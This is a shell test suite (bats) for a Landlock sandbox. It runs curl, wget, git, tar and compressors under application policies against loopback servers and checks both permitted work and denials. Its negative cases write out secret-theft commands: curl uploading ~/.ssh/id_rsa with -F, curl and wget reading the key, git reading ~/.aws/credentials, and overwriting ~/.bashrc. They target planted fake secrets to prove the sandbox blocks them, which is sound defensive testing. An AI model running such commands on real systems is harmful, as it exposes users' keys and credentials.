#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
#
# Real command-line programs under their shipped application policies
# (profiles/applications/*.yaml), doing their real job in a test HOME:
# downloads from a loopback web server, git over git://, ssh, scp, sftp and
# rsync to a loopback sshd, archives, builds, scripts, editors and pagers in
# tmux, JSON and file types, pictures, PDFs (and mupdf's window on an Xvfb
# display), audio, mail, a game, and a network game against a loopback
# game server.
#
# Every test that runs a program under an application policy says so with a
# bats tag line directly above its @test (see "Meta" below): app:NAME for
# the policy, fn:NAME for the high-level functionality it proves. The first
# tests check that every shipped policy and every high-level functionality
# has such a test here or in tests/apps-gui.bats.
#
# Each working case must print no denial line and log no event (enforce mode
# logs denials only) and must produce the expected result. Each high-level
# functionality also gets a negative case with the same program and policy:
# reading the planted ~/.ssh/id_rsa (or, where the functionality reads
# ~/.ssh by design, another protected secret), writing ~/.bashrc, and
# connecting to a loopback port the policy does not grant, each with its
# denial line, and the secret never in the output or in a file.
#
# Servers (web, git daemon, sshd, SMTP, huntd) and the X server (Xvfb) run
# outside the sandbox. Programs a test needs and cannot find make it skip
# (fail under FBAC_MUST_WORK=1).

# shellcheck disable=SC2154 # bats sets output, stderr, lines, stderr_lines
# shellcheck disable=SC2030,SC2031 # run's subshells see our variables
# shellcheck disable=SC2016 # $... in single quotes is for the program
# shellcheck disable=SC2088 # '~' in arguments is the program's to expand

bats_require_minimum_version 1.5.0

load helpers

shopt -s extglob

SECRET=TOPSECRET-a7f3c2-SSH-KEY
RCLINE='# the original bashrc'
# Servers run with the system's Python, as the sandboxed programs do.
SYS_PY=/usr/bin/python3
# Debian's own environment: a compiler search path of another toolkit (a
# CUDA install's LIBRARY_PATH, say) would send gcc to look outside what
# Software_Build grants.
unset LIBRARY_PATH CPATH C_INCLUDE_PATH CPLUS_INCLUDE_PATH GCC_EXEC_PREFIX COMPILER_PATH
APPS_FIX=$REPO/tests/fixtures/apps

# ---------------------------------------------------------------------------
# Meta: what the run tests cover
#
# A policy without a run test is not shipped, and each high-level
# functionality has a working case and a negative case. A test says what
# it exercises with one bats tag line directly above its @test:
#
#	# bats test_tags=app:ssh,app:scp,fn:SSH_Client
#
# app:NAME for each application policy it runs a program under (NAME is
# the policy's `application:`), fn:NAME for each high-level functionality
# it proves, on the working and on the negative test alike (a building block
# may be named too: fn:Graphical_X11). All of a test's tags go on its one
# line: bats keeps only the last test_tags line above a test.
# `bats --filter-tags app:ssh tests/apps.bats` runs the tests of one policy.
# tests/apps-gui.bats tags its tests the same way.

TAGGED_FILES=("$REPO/tests/apps.bats" "$REPO/tests/apps-gui.bats")
# What bats accepts in a tag.
TAG_CHARS='^[-_:[:alnum:]]+$'

# tags PREFIX: the NAMEs of the PREFIX:NAME tags of the tag lines of
# TAGGED_FILES, one per line, sorted.
tags() {
	local f
	for f in "${TAGGED_FILES[@]}"; do
		[[ -f $f ]] || continue
		sed -n 's/^[[:blank:]]*#[[:blank:]]*bats[[:blank:]]\{1,\}test_tags=//p' "$f"
	done | tr ',' '\n' | sed 's/^[[:blank:]]*//; s/[[:blank:]]*$//' |
		sed -n "s/^$1://p" | LC_ALL=C sort -u
}

# tag_count TAG: the number of tests of TAGGED_FILES tagged TAG.
tag_count() {
	local f
	for f in "${TAGGED_FILES[@]}"; do
		[[ -f $f ]] || continue
		sed -n 's/^[[:blank:]]*#[[:blank:]]*bats[[:blank:]]\{1,\}test_tags=//p' "$f"
	done | tr -d '[:blank:]' |
		awk -F, -v t="$1" '{ for (i = 1; i <= NF; i++) if ($i == t) { n++; break } } END { print n + 0 }'
}

# misplaced_tags: the tag lines of TAGGED_FILES that are not directly
# above an @test line (bats would give their tags to the next test).
misplaced_tags() {
	local f
	for f in "${TAGGED_FILES[@]}"; do
		[[ -f $f ]] || continue
		awk -v f="${f#"$REPO/"}" '
			FNR == 1 { prev = "" }
			prev ~ /^[[:blank:]]*#[[:blank:]]*bats[[:blank:]]+test_tags=/ &&
			    $0 !~ /^[[:blank:]]*@test[[:blank:]]/ { printf "%s:%d: %s\n", f, FNR - 1, prev }
			{ prev = $0 }
			END { if (prev ~ /test_tags=/) printf "%s:%d: %s\n", f, FNR, prev }' "$f"
	done
}

# json_names FILTER: the "name" of each object of the JSON array on
# standard input for which the Python expression FILTER (on o) holds.
json_names() {
	"$SYS_PY" -c '
import json, sys
for o in json.load(sys.stdin):
    if eval(sys.argv[1]):
        print(o["name"])
' "$1" | LC_ALL=C sort
}

# untested KIND NAMES KNOWN TAGGED: fail, listing the NAMES (one per line)
# that are not among TAGGED, and the TAGGED that are not among KNOWN (a tag
# with a typo would hide a missing test).
untested() {
	local kind=$1 names=$2 known=$3 tagged=$4 msg=
	local -a missing unknown bad
	mapfile -t missing < <(LC_ALL=C comm -23 <(printf '%s\n' "$names") <(printf '%s\n' "$tagged"))
	mapfile -t unknown < <(LC_ALL=C comm -13 <(printf '%s\n' "$known") <(printf '%s\n' "$tagged") | grep .)
	mapfile -t bad < <(grep -v -E "$TAG_CHARS" <<<"$names")
	[[ ${#missing[@]} -eq 0 && ${#unknown[@]} -eq 0 ]] && return 0
	[[ ${#missing[@]} -eq 0 ]] ||
		msg+="no test tagged $kind:NAME for ${#missing[@]} of them: ${missing[*]}"$'\n'
	[[ ${#bad[@]} -eq 0 ]] ||
		msg+="(names bats cannot have in a tag, [-_:[:alnum:]] only: ${bad[*]})"$'\n'
	[[ ${#unknown[@]} -eq 0 ]] || msg+="tags $kind:NAME naming nothing shipped: ${unknown[*]}"$'\n'
	[[ -f $REPO/tests/apps-gui.bats ]] || msg+="(tests/apps-gui.bats does not exist)"$'\n'
	fail "$msg"
}

# bats test_tags=meta
@test "meta: every shipped application policy has a run test (tag app:NAME)" {
	local f n names=
	for f in "$REPO"/profiles/applications/*.yaml; do
		n=$(sed -n "s/^application:[[:blank:]]*[\"']\{0,1\}\([^\"'#[:blank:]]*\).*/\1/p" "$f")
		[[ -n $n ]] || fail "$f: no application name" || return
		names+=$n$'\n'
	done
	names=$(LC_ALL=C sort -u <<<"${names%$'\n'}")
	# The same list from fbac's own parser (what the library layer holds).
	run --separate-stderr "$FBAC" list --applications --json
	expect_status 0
	[[ $(json_names 'o["layer"] == "library"' <<<"$output") == "$names" ]] ||
		fail "profiles/applications/*.yaml name other applications than 'fbac list --applications' shows" ||
		return
	[[ -z $(misplaced_tags) ]] || fail "tag lines not directly above an @test:"$'\n'"$(misplaced_tags)" || return
	untested app "$names" "$names" "$(tags app)"
}

# bats test_tags=meta
@test "meta: every high-level functionality has run tests (tag fn:NAME)" {
	local names all
	run --separate-stderr "$FBAC" list --json
	expect_status 0
	names=$(json_names 'o["high_level"] is True' <<<"$output")
	# A test may name a building block too (fn:Graphical_X11).
	all=$(json_names True <<<"$output")
	[[ $(wc -l <<<"$names") -ge 10 ]] || fail "too few high-level functionalities: $names" || return
	[[ -z $(misplaced_tags) ]] || fail "tag lines not directly above an @test:"$'\n'"$(misplaced_tags)" || return
	untested fn "$names" "$all" "$(tags fn)" || return
	# A working case and a negative case: at least two tests each.
	local n few=()
	while read -r n; do
		[[ $(tag_count "fn:$n") -ge 2 ]] || few+=("$n")
	done <<<"$names"
	[[ ${#few[@]} -eq 0 ]] || fail "fewer than two tests (a working and a negative case) for: ${few[*]}"
}

setup_file() {
	[[ -x $FBAC_RUN ]] || return 0
	FBAC_DATADIR=$REPO/profiles "$FBAC_RUN" --check /usr/bin/curl \
		>"$BATS_FILE_TMPDIR/check" 2>&1 || true
}

setup() {
	if [[ $BATS_TEST_DESCRIPTION == "meta: "* ]]; then
		# Static checks: no kernel feature, no HOME of their own.
		[[ -x $FBAC ]] || fail "no $FBAC: run make" || return
		[[ -x $SYS_PY ]] || skip_or_fail "python3 is not installed"
		return 0
	fi
	[[ -x $FBAC_RUN ]] || fail "no $FBAC_RUN: run make"
	local abi
	abi=$(sed -n 's/^landlock ABI \([0-9]*\).*/\1/p' "$BATS_FILE_TMPDIR/check")
	if [[ -z $abi ]]; then
		skip_or_fail "fbac-run --check did not report a Landlock ABI: $(tail -n1 "$BATS_FILE_TMPDIR/check")"
	elif [[ $abi -lt 4 ]] || grep -q '; missing:' "$BATS_FILE_TMPDIR/check"; then
		skip_kernel_feature "this kernel's Landlock cannot enforce the shipped policies: $(tail -n1 "$BATS_FILE_TMPDIR/check")"
	fi
	[[ -x $SYS_PY ]] || skip_or_fail "python3 is not installed (test servers)"
	apps_home
	make_home "$HOME"
	H=$(cd "$HOME" && pwd -P)
	LOG=$BATS_TEST_TMPDIR/events.jsonl
	BG_PIDS=$BATS_TEST_TMPDIR/bg.pids
	: >"$BG_PIDS"
	cd "$H" || return 1
}

teardown() {
	if [[ -S $BATS_TEST_TMPDIR/tmux.sock ]]; then
		tmux -S "$BATS_TEST_TMPDIR/tmux.sock" kill-server 2>/dev/null || true
	fi
	kill_tracked
	stop_xvfb
	fbac_teardown
	if [[ -n ${APPS_DIR-} && $APPS_DIR == /home/fbac-apps.* ]]; then
		rm -rf -- "$APPS_DIR" "${APPS_DIR/fbac-apps./fbac-apps-u.}"
	fi
}

# apps_home: as root, move HOME out of /tmp, to /home/fbac-apps.XXXXXX,
# and stage run_unprivileged's HOME as /home/fbac-apps-u.XXXXXX. Temporary_Files
# grants all of /tmp and /var/tmp and many policies include it: a HOME
# under BATS_TEST_TMPDIR would be writable by them all, and a policy that
# forgot a folder of the home would still pass. Directly under /home, the
# home is where users have theirs: User_Directory_Lookup lets programs
# look at /home and $HOME, and nothing above. (Not as root: /home is not
# writable, and the tests use the BATS_TEST_TMPDIR home, which checks the
# policies less strictly.)
apps_home() {
	[[ $EUID -eq 0 && -d /home ]] || return 0
	APPS_DIR=$(mktemp -d /home/fbac-apps.XXXXXX) || fail "mktemp in /home" || return
	chmod 0755 "$APPS_DIR"
	export FBAC_UNPRIV_HOME=${APPS_DIR/fbac-apps./fbac-apps-u.}
	export HOME=$APPS_DIR
	export FBAC_USER_DIR=$HOME/.config/fbac
	mkdir -p "$FBAC_USER_DIR"
}

# make_home DIR: the user's folders, a planted SSH key and a ~/.bashrc.
make_home() {
	mkdir -p "$1"/{Documents,Downloads,Pictures,Music,src,.ssh,.config,.aws}
	chmod 700 "$1/.ssh"
	printf '%s\n' "-----BEGIN OPENSSH PRIVATE KEY-----" "$SECRET" \
		"-----END OPENSSH PRIVATE KEY-----" >"$1/.ssh/id_rsa"
	chmod 600 "$1/.ssh/id_rsa"
	printf '[default]\naws_secret_access_key = %s\n' "$SECRET" >"$1/.aws/credentials"
	printf '%s\n' "$RCLINE" >"$1/.bashrc"
}

# ---------------------------------------------------------------------------
# Running things

# app [FBAC-RUN-OPTION...] -- COMMAND [ARG...]: COMMAND under fbac-run with
# its application policy (or the --as given), logging to $LOG.
app() {
	local -a opts=()
	while [[ $# -gt 0 && $1 != -- ]]; do
		opts+=("$1")
		shift
	done
	[[ $1 == -- ]] || fail "app: no -- before the command" || return 125
	shift
	"$FBAC_RUN" "--log=$LOG" "${opts[@]}" "$@"
}

# uapp: app as uid 65534 (run_unprivileged) on the staged copy.
uapp() {
	local -a opts=()
	while [[ $# -gt 0 && $1 != -- ]]; do
		opts+=("$1")
		shift
	done
	shift
	run_unprivileged "$FBAC_RUN" "--log=$LOG" "${opts[@]}" "$@"
}

# free_port: a TCP port of 127.0.0.1 nobody listens on (right now).
free_port() {
	"$SYS_PY" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}

# wait_port PORT: wait (10 s) until something accepts on 127.0.0.1:PORT.
wait_port() {
	local i
	for ((i = 0; i < 200; i++)); do
		"$SYS_PY" -c 'import socket, sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 1).close()' \
			"$1" 2>/dev/null && return 0
		sleep 0.05
	done
	fail "nothing listens on 127.0.0.1:$1"
}

# background NAME COMMAND...: start a server outside the sandbox.
background() {
	local name=$1
	shift
	"$@" </dev/null >"$BATS_TEST_TMPDIR/$name.out" 2>"$BATS_TEST_TMPDIR/$name.err" 3>&- &
	track $!
	disown $!
}

# start_http DIR: a web server on loopback serving DIR; PORT is its port.
start_http() {
	PORT=$(free_port)
	background http "$SYS_PY" -m http.server --bind 127.0.0.1 --directory "$1" "$PORT"
	wait_port "$PORT"
}

# closed_port: a port nothing listens on, for the denied connections (the
# policy refuses it before any packet is sent).
closed_port() {
	NOPORT=$(free_port)
	[[ $NOPORT != "${PORT-}" ]] || NOPORT=$(free_port)
}

# ---------------------------------------------------------------------------
# Checks

# clean: the last run printed no fbac line on stderr and logged no event.
clean() {
	local l
	for l in "${stderr_lines[@]}"; do
		if [[ $l == *"fbac: "* ]]; then
			show_run
			fail "unexpected fbac line: $l"
			return
		fi
	done
	if [[ -s $LOG ]]; then
		show_run
		fail "events were logged"
		return
	fi
}

# ok: exit status 0 and clean.
ok() {
	expect_status 0 && clean
}

# denied OP OBJECT PROG: a denial line for OP on OBJECT by PROG, and the
# matching event in the log.
denied() {
	local l found=
	for l in "${stderr_lines[@]}"; do
		[[ $l == *"fbac: denied $1 '$2' for $3["+([0-9])"]: not granted by "* ]] && found=1
	done
	if [[ -z $found ]]; then
		show_run
		fail "expected on stderr: fbac: denied $1 '$2' for $3[PID]: not granted by ..."
		return
	fi
	grep -q -F -- "\"operation\": \"$1\", \"object\": \"$2\", \"decision\": \"deny\"" "$LOG" ||
		{ show_run; fail "no deny event for $1 $2 in $LOG"; }
}

# no_secret [FILE...]: the secret is neither in the last run's output nor
# in any FILE (a directory is searched).
no_secret() {
	if [[ $output == *"$SECRET"* || ${stderr-} == *"$SECRET"* ]]; then
		show_run
		fail "the secret leaked into the output"
		return
	fi
	local f
	for f; do
		[[ -e $f ]] || continue
		if grep -r -a -q -F -- "$SECRET" "$f"; then
			fail "the secret leaked into $f"
			return
		fi
	done
}

# bashrc_intact [HOME]: ~/.bashrc is still the original.
bashrc_intact() {
	local got
	got=$(cat "${1:-$H}/.bashrc")
	[[ $got == "$RCLINE" ]] || fail "~/.bashrc was changed: $got"
}

# content FILE TEXT: FILE holds exactly TEXT (without the final newline).
content() {
	local got
	got=$(cat -- "$1" 2>&1)
	[[ $got == "$2" ]] && return 0
	show_run
	fail "$1: expected '$2', got '$got'"
}

# ---------------------------------------------------------------------------
# A terminal (tmux)

# tty_start [FBAC-RUN-OPTION...] -- COMMAND...: fbac-run in a new tmux
# session; after it, the screen shows "fbac-run-status=N".
tty_start() {
	need_commands tmux
	local -a opts=()
	while [[ $# -gt 0 && $1 != -- ]]; do
		opts+=("$1")
		shift
	done
	shift
	local script=$BATS_TEST_TMPDIR/tty.sh
	TTY_ERR=$BATS_TEST_TMPDIR/tty.err
	{
		printf 'cd %q\n' "$PWD"
		declare -p PATH FBAC_DATADIR HOME FBAC_USER_DIR LC_ALL ${FBAC_ADMIN_DIR:+FBAC_ADMIN_DIR}
		printf 'export TERM=xterm-256color\n'
		[[ -z ${TTY_ENV-} ]] || printf 'export %s\n' "$TTY_ENV"
		printf 'echo $$ >%q\n' "$BATS_TEST_TMPDIR/tty.pid"
		printf 'exec 3>&-\n'
		# The program's own screen would hide the denial lines: fbac-run's
		# (and the program's) standard error goes to a file.
		if [[ -n ${TTY_UNPRIV-} && $EUID -eq 0 ]]; then
			# As run_unprivileged: uid 65534 on the staged copy.
			local root a
			root=$(_unpriv_stage)
			printf 'cd %q\n' "$(_unpriv_map "$root" "$PWD")"
			printf '%q ' setpriv --reuid=65534 --regid=65534 --clear-groups -- env \
				"HOME=$(_unpriv_home "$root")" USER=nobody LOGNAME=nobody \
				"FBAC_DATADIR=$(_unpriv_map "$root" "$FBAC_DATADIR")" \
				"FBAC_USER_DIR=$(_unpriv_map "$root" "$FBAC_USER_DIR")" \
				"FBAC_ADMIN_DIR=$(_unpriv_map "$root" "$FBAC_ADMIN_DIR")" \
				"$root/build/fbac-run" "--log=$LOG" "${opts[@]}"
			for a; do
				printf '%q ' "$(_unpriv_map "$root" "$a")"
			done
		else
			printf '%q ' "$FBAC_RUN" "--log=$LOG" "${opts[@]}" "$@"
		fi
		printf '2>%q\n' "$TTY_ERR"
		printf 'echo "fbac-run-status=$?"\n'
		printf 'sleep 60\n'
	} >"$script"
	tmux_script "$script"
}

# tty_clean: the session printed no fbac line and logged no event.
tty_clean() {
	if grep -F 'fbac: ' "$TTY_ERR" >&2; then
		fail "fbac lines on standard error"
		return
	fi
	[[ ! -s $LOG ]] || fail "events were logged: $(cat "$LOG")"
}

# tty_denied OP OBJECT PROG: the denial line is on standard error and in the
# log, and the secret is not on the screen.
tty_denied() {
	grep -q -F -- "fbac: denied $1 '$2' for $3[" "$TTY_ERR" ||
		fail "no denial line for $1 $2 in: $(cat "$TTY_ERR")" || return
	grep -q -F -- "\"operation\": \"$1\", \"object\": \"$2\", \"decision\": \"deny\"" "$LOG" ||
		fail "no deny event for $1 $2 in $LOG" || return
	[[ $(pane) != *"$SECRET"* ]] || fail "the secret is on the screen"
}

# ---------------------------------------------------------------------------
# Download_Manager: curl, wget

# web_files: a page and a binary file to download; sets SUM to the binary's.
web_files() {
	mkdir -p "$BATS_TEST_TMPDIR/www"
	printf 'hello from the loopback server\n' >"$BATS_TEST_TMPDIR/www/page.txt"
	head -c 200000 /dev/urandom >"$BATS_TEST_TMPDIR/www/blob.bin"
	SUM=$(sha256sum <"$BATS_TEST_TMPDIR/www/blob.bin")
}

# bats test_tags=app:curl,fn:Download_Manager
@test "curl (Download_Manager): downloads into ~/Downloads from a loopback server" {
	need_commands /usr/bin/curl
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/curl -sS -o "$H/Downloads/blob.bin" \
		"http://127.0.0.1:$PORT/blob.bin"
	ok
	[[ $(sha256sum <"$H/Downloads/blob.bin") == "$SUM" ]] || fail "the download differs"
	# -O into the working directory, and standard output.
	cd "$H/Downloads"
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/curl -sS -O "http://127.0.0.1:$PORT/page.txt"
	ok
	content "$H/Downloads/page.txt" "hello from the loopback server"
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/curl -sS "http://127.0.0.1:$PORT/page.txt"
	ok
	[[ $output == "hello from the loopback server" ]] || { show_run; fail "stdout"; }
}

# bats test_tags=app:curl,fn:Download_Manager
@test "curl (Download_Manager): no ~/.ssh/id_rsa, no ~/.bashrc, no other port" {
	need_commands /usr/bin/curl
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	closed_port
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/curl -sS -o "$H/Downloads/key" "file://$H/.ssh/id_rsa"
	expect_status 37
	denied file_read "$H/.ssh/id_rsa" curl
	no_secret "$H/Downloads"
	# Uploading it to the granted server is no better.
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/curl -sS -F "k=@$H/.ssh/id_rsa" \
		"http://127.0.0.1:$PORT/"
	expect_status 26
	denied file_getattr "$H/.ssh/id_rsa" curl
	no_secret "$BATS_TEST_TMPDIR/http.err"
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/curl -sS -o "$H/.bashrc" \
		"http://127.0.0.1:$PORT/page.txt"
	expect_status 23
	denied file_write "$H/.bashrc" curl
	bashrc_intact
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/curl -sS "http://127.0.0.1:$NOPORT/"
	expect_status 7
	denied network_outgoing "tcp:127.0.0.1:$NOPORT" curl
}

# bats test_tags=app:wget,fn:Download_Manager
@test "wget (Download_Manager): downloads into ~/Downloads from a loopback server" {
	need_commands /usr/bin/wget
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/wget -q -P "$H/Downloads" \
		"http://127.0.0.1:$PORT/blob.bin" "http://127.0.0.1:$PORT/page.txt"
	ok
	[[ $(sha256sum <"$H/Downloads/blob.bin") == "$SUM" ]] || fail "the download differs"
	content "$H/Downloads/page.txt" "hello from the loopback server"
}

# bats test_tags=app:wget,fn:Download_Manager
@test "wget (Download_Manager): no ~/.ssh/id_rsa, no ~/.bashrc, no other port" {
	need_commands /usr/bin/wget
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	closed_port
	# The key as a list of URLs to fetch (-i): wget would send its lines.
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/wget -q -P "$H/Downloads" -i "$H/.ssh/id_rsa"
	denied file_read "$H/.ssh/id_rsa" wget
	no_secret "$H/Downloads" "$BATS_TEST_TMPDIR/http.err"
	[[ -z $(ls -A "$H/Downloads") ]] || fail "wget downloaded something"
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/wget -q -O "$H/.bashrc" \
		"http://127.0.0.1:$PORT/page.txt"
	expect_status 1
	denied file_write "$H/.bashrc" wget
	bashrc_intact
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/wget -q -t 1 -P "$H/Downloads" \
		"http://127.0.0.1:$NOPORT/page.txt"
	expect_status 4
	denied network_outgoing "tcp:127.0.0.1:$NOPORT" wget
}

# bats test_tags=app:curl,fn:Download_Manager
@test "unprivileged: curl downloads, and cannot read the key" {
	require_unprivileged
	need_commands /usr/bin/curl
	web_files
	start_http "$BATS_TEST_TMPDIR/www"
	local uh
	uh=$(unprivileged_home)
	LOG=$uh/events.jsonl
	run --separate-stderr uapp -D "ports=$PORT" -- /usr/bin/curl -sS -o "$uh/Downloads/blob.bin" \
		"http://127.0.0.1:$PORT/blob.bin"
	ok
	[[ $(sha256sum <"$uh/Downloads/blob.bin") == "$SUM" ]] || fail "the download differs"
	[[ $EUID -ne 0 || $(stat -c %u "$uh/Downloads/blob.bin") == 65534 ]] || fail "not downloaded as 65534"
	run --separate-stderr uapp -D "ports=$PORT" -- /usr/bin/curl -sS -o "$uh/Downloads/key" "file://$uh/.ssh/id_rsa"
	expect_status 37
	denied file_read "$uh/.ssh/id_rsa" curl
	no_secret "$uh/Downloads"
}

# ---------------------------------------------------------------------------
# Version_Control_Client: git

# git_identity HOME: a ~/.gitconfig (protected, read-only for git) naming
# the author.
git_identity() {
	printf '[user]\n\tname = Test User\n\temail = test@example.org\n[init]\n\tdefaultBranch = main\n' \
		>"$1/.gitconfig"
}

# bats test_tags=app:git,fn:Version_Control_Client
@test "git (Version_Control_Client): init, commit, clone and push between local repositories" {
	need_commands /usr/bin/git
	git_identity "$H"
	mkdir -p "$H/src/proj"
	printf 'first line\n' >"$H/src/proj/README"
	cd "$H/src/proj"
	run --separate-stderr app -- /usr/bin/git init -q
	ok
	run --separate-stderr app -- /usr/bin/git add README
	ok
	run --separate-stderr app -- /usr/bin/git commit -q -m "first commit"
	ok
	run --separate-stderr app -- /usr/bin/git init -q --bare "$H/src/shared.git"
	ok
	run --separate-stderr app -- /usr/bin/git push -q "$H/src/shared.git" main
	ok
	cd "$H/src"
	run --separate-stderr app -- /usr/bin/git clone -q "$H/src/shared.git" copy
	ok
	content "$H/src/copy/README" "first line"
	cd "$H/src/copy"
	printf 'second line\n' >>README
	run --separate-stderr app -- /usr/bin/git commit -q -a -m "second commit"
	ok
	run --separate-stderr app -- /usr/bin/git push -q origin main
	ok
	cd "$H/src/proj"
	run --separate-stderr app -- /usr/bin/git pull -q "$H/src/shared.git" main
	ok
	[[ $(cat README) == $'first line\nsecond line' ]] || fail "pull did not bring the change: $(cat README)"
	run --separate-stderr app -- /usr/bin/git log --format=%s
	ok
	[[ $output == $'second commit\nfirst commit' ]] || { show_run; fail "log"; }
}

# git_daemon DIR: git daemon serving DIR on loopback (push enabled); PORT.
git_daemon() {
	PORT=$(free_port)
	background gitd git daemon --reuseaddr --export-all --enable=receive-pack \
		--base-path="$1" --listen=127.0.0.1 --port="$PORT" "$1"
	wait_port "$PORT"
}

# bats test_tags=app:git,fn:Version_Control_Client
@test "git (Version_Control_Client): clone from and push to a loopback git daemon" {
	need_commands /usr/bin/git
	git_identity "$H"
	local srv=$BATS_TEST_TMPDIR/gitsrv
	mkdir -p "$srv"
	git init -q --bare "$srv/repo.git"
	git -C "$srv/repo.git" config receive.denyCurrentBranch ignore
	git -C "$srv/repo.git" symbolic-ref HEAD refs/heads/main
	local seed=$BATS_TEST_TMPDIR/seed
	git -c init.defaultBranch=main init -q "$seed"
	printf 'served by git daemon\n' >"$seed/file.txt"
	git -C "$seed" add file.txt
	git -C "$seed" -c user.name=Seed -c user.email=seed@example.org commit -q -m seed
	git -C "$seed" push -q "$srv/repo.git" main
	git_daemon "$srv"
	cd "$H/src"
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/git clone -q "git://127.0.0.1:$PORT/repo.git" work
	ok
	content "$H/src/work/file.txt" "served by git daemon"
	cd "$H/src/work"
	printf 'pushed back\n' >new.txt
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/git add new.txt
	ok
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/git commit -q -m "from the sandbox"
	ok
	run --separate-stderr app -D "ports=$PORT" -- /usr/bin/git push -q origin main
	ok
	[[ $(git -C "$srv/repo.git" show main:new.txt) == "pushed back" ]] || fail "the push did not arrive"
	[[ $(git -C "$srv/repo.git" log -1 --format=%s main) == "from the sandbox" ]] || fail "wrong commit on the server"
}

# Version_Control_Client includes SSH_Keys by design (pushing over SSH needs
# the user's key), so git may read ~/.ssh: its negative case uses another
# protected secret, ~/.aws/credentials.
# bats test_tags=app:git,fn:Version_Control_Client
@test "git (Version_Control_Client): no other secret, no ~/.bashrc, no other port" {
	need_commands /usr/bin/git
	git_identity "$H"
	git -c init.defaultBranch=main init -q "$H/src/r"
	printf 'x\n' >"$H/src/r/x"
	git -C "$H/src/r" add x
	git -C "$H/src/r" commit -q -m x
	cd "$H/src/r"
	run --separate-stderr app -- /usr/bin/git hash-object -w "$H/.aws/credentials"
	expect_status 128
	denied file_read "$H/.aws/credentials" git
	no_secret "$H/src/r/.git"
	run --separate-stderr app -- /usr/bin/git archive -o "$H/.bashrc" HEAD
	expect_status 128
	denied file_write "$H/.bashrc" git
	bashrc_intact
	closed_port
	run --separate-stderr app -- /usr/bin/git ls-remote "git://127.0.0.1:$NOPORT/repo.git"
	expect_status 128
	denied network_outgoing "tcp:127.0.0.1:$NOPORT" git
	# Outside the repository folders nothing is written either.
	run --separate-stderr app -- /usr/bin/git init -q "$H/Documents/r2"
	[[ $status -ne 0 ]] || { show_run; fail "git init outside ~/src worked"; }
	[[ ! -e $H/Documents/r2/.git ]] || fail "a repository was made in ~/Documents"
}

# bats test_tags=app:git,fn:Version_Control_Client
@test "unprivileged: git commits and clones in ~/src" {
	require_unprivileged
	need_commands /usr/bin/git
	git_identity "$H"
	local uh
	uh=$(unprivileged_home)
	LOG=$uh/events.jsonl
	cd "$uh"
	run --separate-stderr uapp -- /usr/bin/git init -q "$uh/src/p"
	ok
	run_unprivileged sh -c "echo hi > '$uh/src/p/f'"
	run --separate-stderr uapp -- /usr/bin/git -C "$uh/src/p" add f
	ok
	run --separate-stderr uapp -- /usr/bin/git -C "$uh/src/p" commit -q -m one
	ok
	run --separate-stderr uapp -- /usr/bin/git clone -q "$uh/src/p" "$uh/src/q"
	ok
	content "$uh/src/q/f" hi
	run --separate-stderr uapp -- /usr/bin/git hash-object "$uh/.aws/credentials"
	expect_status 128
	denied file_read "$uh/.aws/credentials" git
	no_secret
}

# ---------------------------------------------------------------------------
# Archive_Manager: tar, gzip, xz, bzip2, zstd, zip, unzip

# tree DIR: a small tree of files to pack.
tree() {
	mkdir -p "$1/sub/deeper"
	printf 'alpha\n' >"$1/a.txt"
	printf 'beta\n' >"$1/sub/b.txt"
	head -c 65536 /dev/urandom >"$1/sub/deeper/c.bin"
}

# same_tree A B: A and B hold the same files with the same contents.
same_tree() {
	diff -r "$1" "$2" >&2 || fail "$1 and $2 differ"
}

# bats test_tags=app:tar,fn:Archive_Manager
@test "tar (Archive_Manager): packs with gzip, xz and bzip2 and unpacks" {
	need_commands /usr/bin/tar /usr/bin/gzip /usr/bin/xz /usr/bin/bzip2
	tree "$H/Documents/tree"
	cd "$H/Documents"
	local z
	for z in z J j; do
		run --separate-stderr app -- /usr/bin/tar -c${z}f "$H/Downloads/tree.$z.tar" tree
		ok
		mkdir -p "$H/Downloads/out.$z"
		run --separate-stderr app -- /usr/bin/tar -x${z}f "$H/Downloads/tree.$z.tar" -C "$H/Downloads/out.$z"
		ok
		same_tree "$H/Documents/tree" "$H/Downloads/out.$z/tree"
	done
	run --separate-stderr app -- /usr/bin/tar -tzf "$H/Downloads/tree.z.tar"
	ok
	[[ $output == *"tree/sub/deeper/c.bin"* ]] || { show_run; fail "listing"; }
}

# bats test_tags=app:gzip,app:xz,app:bzip2,app:zstd,fn:Archive_Manager
@test "gzip, xz, bzip2, zstd (Archive_Manager): compress and uncompress in place" {
	need_commands /usr/bin/gzip /usr/bin/xz /usr/bin/bzip2 /usr/bin/zstd
	head -c 100000 /dev/urandom | base64 >"$H/Documents/data.txt"
	local sum c ext
	sum=$(sha256sum <"$H/Documents/data.txt")
	cd "$H/Documents"
	for c in gzip:gz xz:xz bzip2:bz2 zstd:zst; do
		ext=${c#*:}
		c=${c%:*}
		run --separate-stderr app -- "/usr/bin/$c" -q data.txt
		ok
		[[ -f data.txt.$ext ]] || fail "$c made no data.txt.$ext"
		if [[ $c == zstd ]]; then
			rm data.txt # zstd keeps the input
		fi
		[[ ! -e data.txt ]] || fail "$c left data.txt"
		run --separate-stderr app -- "/usr/bin/$c" -q -d "data.txt.$ext"
		ok
		[[ $c != zstd ]] || rm "data.txt.$ext"
		[[ $(sha256sum <data.txt) == "$sum" ]] || fail "$c: the round trip changed the data"
	done
	# gunzip and zcat are shell scripts that run gzip.
	gzip -k data.txt
	run --separate-stderr app -- /usr/bin/zcat data.txt.gz
	ok
